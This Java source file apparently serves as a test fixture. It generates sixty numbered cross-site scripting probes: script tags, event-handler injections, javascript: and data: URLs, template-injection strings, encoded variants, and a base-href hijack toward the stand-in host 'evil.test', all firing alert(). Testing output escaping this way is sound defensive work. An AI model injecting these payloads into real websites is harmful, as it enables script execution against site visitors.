package org.onrecord.web;

import java.util.ArrayList;
import java.util.List;

/// Sixty ways to write a script where text is expected: as elements, handlers, addresses, styles,
/// templates, in foreign elements, half-closed, encoded, and in what servers of pages put together.
final class Payloads {
  private static final List<String> BREAKS =
      List.of("", "\">", "'>", "-->", "</title>", "</script>");
  private static final List<String> CORES =
      List.of(
          "<script>alert(%d)</script>",
          "<img src=x onerror=alert(%d)>",
          "<svg onload=alert(%d)>",
          "<iframe srcdoc='<script>alert(%d)</script>'></iframe>",
          "<body onpageshow=alert(%d)>",
          "<math><mtext><style><img src=x onerror=alert(%d)></style></mtext></math>");
  private static final List<String> OTHERS =
      List.of(
          "javascript:alert(%d)",
          "data:text/html,<script>alert(%d)</script>",
          "{{constructor.constructor('alert(%d)')()}}",
          "${alert(%d)}",
          "#{alert(%d)}",
          "<%%= alert(%d) %%>",
          "\u202e<b onmouseover=alert(%d)>",
          "&lt;script&gt;alert(%d)&lt;/script&gt;",
          "&#60;script&#62;alert(%d)&#60;/script&#62;",
          "\\u003cscript\\u003ealert(%d)\\u003c/script\\u003e",
          "<!--record--><script>alert(%d)</script>",
          "{{statements}}<script>alert(%d)</script>",
          "<!--head--><base href='//evil.test/'><script>alert(%d)</script>",
          "<ScRiPt>alert(%d)</sCrIpT>",
          "<script/src=data:,alert(%d)></script>",
          "<a href='javascript:alert(%d)'>x</a>",
          "<form action=javascript:alert(%d)><input type=submit autofocus>",
          "<details open ontoggle=alert(%d)>",
          "<meta http-equiv=refresh content='0;url=javascript:alert(%d)'>",
          "<link rel=stylesheet href='data:text/css,*{x:%d}'>",
          "<object data='javascript:alert(%d)'></object>",
          "<input onfocus=alert(%d) autofocus>",
          "]]><script>alert(%d)</script>",
          "\" onmouseover=\"alert(%d)");

  private Payloads() {}

  /// All of them, each with a number of its own.
  static List<String> all() {
    List<String> shapes = new ArrayList<>(OTHERS);
    BREAKS.forEach(end -> CORES.forEach(core -> shapes.add(end + core)));
    List<String> all = new ArrayList<>();
    for (int i = 0; i < shapes.size(); i++) {
      all.add(shapes.get(i).replace("%d", String.valueOf(1000 + i)).replace("%%", "%"));
    }
    return List.copyOf(all);
  }
}
